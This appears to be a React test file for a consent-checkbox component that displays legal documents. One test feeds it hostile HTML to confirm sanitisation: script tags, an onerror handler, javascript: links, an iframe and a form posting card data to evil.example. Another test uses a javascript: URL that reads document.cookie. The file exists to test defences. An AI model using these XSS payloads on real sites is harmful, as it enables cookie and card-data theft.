import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import axe from 'axe-core';
import { useState } from 'react';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import type { LegalDocument, Question } from '../../core/schemas';
import { TERMS_DOCUMENT_UUID } from '../../sandbox';
import { renderWithKyc } from '../../../test/support/renderWithKyc';
// Aliased: the helper is not a React hook, but its `use` prefix trips react-hooks/rules-of-hooks.
import { setupSandboxServer } from '../../../test/support/sandboxServer';
import { LegalDocumentField } from './LegalDocumentField';

const { sandbox } = setupSandboxServer();
let ids: { legalEntityUuid: string; clientUuid: string };

beforeAll(() => {
  const seeded = sandbox.seed('draft');
  ids = { legalEntityUuid: seeded.legalEntityUuid, clientUuid: seeded.clientUuid };
});

const terms: Question = {
  title: 'Terms and Conditions',
  is_required: true,
  attribute: { key: 'terms_and_conditions', type: 'legal_document', value: null },
};

function Harness({ initial = null, onChange }: { initial?: string | null; onChange: (value: string | null) => void }) {
  const [value, setValue] = useState<string | null>(initial);
  return (
    <LegalDocumentField
      question={terms}
      id="q-terms"
      value={value}
      applicationUuid="app"
      onValueChange={(next) => {
        onChange(next);
        setValue(next);
      }}
    />
  );
}

/** A `fetch` that answers the legal-document call with `document` and passes everything else on. */
function serving(document: Partial<LegalDocument>): typeof fetch {
  return async (input, init) => {
    const url = new URL(input instanceof Request ? input.url : String(input));
    if (url.pathname.endsWith('/v1/legal_documents/')) {
      const body = { uuid: 'hostile-doc', key: 'terms_and_conditions', title: 'Terms', ...document };
      return Response.json({ count: 1, next: null, previous: null, results: [body] });
    }
    return fetch(input, init);
  };
}

async function setup(initial: string | null = null, fetchOverride?: typeof fetch) {
  const onChange = vi.fn<(value: string | null) => void>();
  const user = userEvent.setup();
  renderWithKyc(<Harness initial={initial} onChange={onChange} />, ids, fetchOverride ? { fetch: fetchOverride } : {});
  const checkbox = await screen.findByRole('checkbox', { name: /I have read and accept/ });
  return { user, onChange, checkbox };
}

describe('LegalDocumentField', () => {
  it('should show the title, version and content in a named, focusable region', async () => {
    await setup();
    const region = screen.getByRole('region', { name: 'Terms and Conditions' });
    expect(region).toHaveAttribute('tabindex', '0');
    expect(region).toHaveTextContent('These terms govern the identity verification');
    expect(screen.getByText('Version 2.1')).toBeInTheDocument();
    expect(screen.getByRole('group', { name: /Terms and Conditions/ })).toBeInTheDocument();
  });

  it('given an outdated acceptance / should have no accessibility violations', async () => {
    await setup('0ld-version-uuid');
    // Contrast needs layout (none in jsdom); "region" is a page-level rule, and the widget sits in the partner's page.
    const results = await axe.run(document.body, {
      rules: { 'color-contrast': { enabled: false }, region: { enabled: false } },
    });
    expect(results.violations.map((violation) => violation.id)).toEqual([]);
  });

  it('given no answer / should leave the consent box unticked', async () => {
    const { checkbox, onChange } = await setup();
    expect(checkbox).toHaveAccessibleName('I have read and accept “Terms and Conditions”');
    expect(checkbox).not.toBeChecked();
    expect(onChange).not.toHaveBeenCalled();
  });

  it('given a tick / should report the document uuid, and null when unticked', async () => {
    const { user, checkbox, onChange } = await setup();
    await user.click(checkbox);
    expect(onChange).toHaveBeenLastCalledWith(TERMS_DOCUMENT_UUID);
    expect(checkbox).toBeChecked();
    await user.click(checkbox);
    expect(onChange).toHaveBeenLastCalledWith(null);
    expect(checkbox).not.toBeChecked();
  });

  it('given the current document accepted / should show the box ticked', async () => {
    const { checkbox } = await setup(TERMS_DOCUMENT_UUID);
    expect(checkbox).toBeChecked();
  });

  it('given an older document accepted / should leave the box unticked and ask to accept again', async () => {
    const { checkbox } = await setup('0ld-version-uuid');
    expect(checkbox).not.toBeChecked();
    expect(checkbox).toHaveAccessibleDescription(/has changed since you accepted it/);
  });

  it('should let the keyboard reach the document and tick the box with Space', async () => {
    const { user, checkbox, onChange } = await setup();
    await user.tab();
    expect(screen.getByRole('region', { name: 'Terms and Conditions' })).toHaveFocus();
    for (let presses = 0; presses < 5 && document.activeElement !== checkbox; presses++) await user.tab();
    expect(checkbox).toHaveFocus();
    await user.keyboard(' ');
    expect(onChange).toHaveBeenCalledExactlyOnceWith(TERMS_DOCUMENT_UUID);
  });

  it('given a document url / should link to it in a new tab', async () => {
    await setup();
    const link = screen.getByRole('link', { name: 'Read “Terms and Conditions” (opens in a new tab)' });
    expect(link).toHaveAttribute('href', 'https://example.com/legal/terms-and-conditions-v2.1.pdf');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('given hostile content / should render it without scripts, handlers, frames, forms or script links', async () => {
    const hostile = [
      '<p id="ok">Accept <b>these</b> terms.</p>',
      '<script>window.__pwned = true</script>',
      '<img src="x" onerror="window.__pwned = true">',
      '<iframe src="https://evil.example/"></iframe>',
      '<form action="https://evil.example/steal"><input name="card"><button>Send</button></form>',
      '<a href="javascript:window.__pwned=true">Click me</a>',
      '<a href="https://example.com/more" onclick="window.__pwned = true">More</a>',
    ].join('');
    await setup(null, serving({ content: hostile, url: null }));
    const region = screen.getByRole('region', { name: 'Terms' });
    expect(region).toHaveTextContent('Accept these terms.');
    expect(region.querySelector('script, iframe, form, input, button, img, [onerror], [onclick], [id]')).toBeNull();
    expect(screen.getByText('Click me').closest('a')).not.toHaveAttribute('href');
    const safe = screen.getByRole('link', { name: 'More' });
    expect(safe).toHaveAttribute('href', 'https://example.com/more');
    expect(safe).toHaveAttribute('rel', 'noopener noreferrer');
    expect((window as { __pwned?: boolean }).__pwned).toBeUndefined();
  });

  it('given a javascript: url and no content / should not link and not let the box be ticked', async () => {
    const { checkbox } = await setup(null, serving({ content: null, url: 'javascript:alert(document.cookie)' }));
    expect(screen.queryByRole('link')).not.toBeInTheDocument();
    expect(checkbox).toBeDisabled();
    expect(checkbox).toHaveAccessibleDescription('This document cannot be shown here. Please contact support.');
  });

  it('given only an https url on another host / should link to it and allow consent', async () => {
    const { user, checkbox, onChange } = await setup(
      null,
      serving({ content: null, url: 'https://cdn.partner.example/terms.pdf' }),
    );
    expect(screen.queryByRole('region')).not.toBeInTheDocument();
    expect(screen.getByRole('link', { name: /Read “Terms”/ })).toHaveAttribute(
      'href',
      'https://cdn.partner.example/terms.pdf',
    );
    await user.click(checkbox);
    expect(onChange).toHaveBeenCalledExactlyOnceWith('hostile-doc');
  });

  it('given the document fails to load / should offer a retry that loads it', async () => {
    sandbox.setFaults({ routes: { legalDocuments: { failureRate: 1 } } });
    const user = userEvent.setup();
    renderWithKyc(<Harness onChange={() => {}} />, ids);
    // The client retries transient faults a few times before giving up.
    const alert = await screen.findByRole('alert', {}, { timeout: 10_000 });
    expect(alert).toHaveTextContent('The document could not be loaded.');
    expect(screen.queryByRole('checkbox')).not.toBeInTheDocument();

    sandbox.setFaults(undefined);
    await user.click(screen.getByRole('button', { name: 'Try again' }));
    await waitFor(() => expect(screen.getByRole('checkbox', { name: /I have read and accept/ })).not.toBeChecked());
    expect(screen.queryByRole('alert')).not.toBeInTheDocument();
  });
});
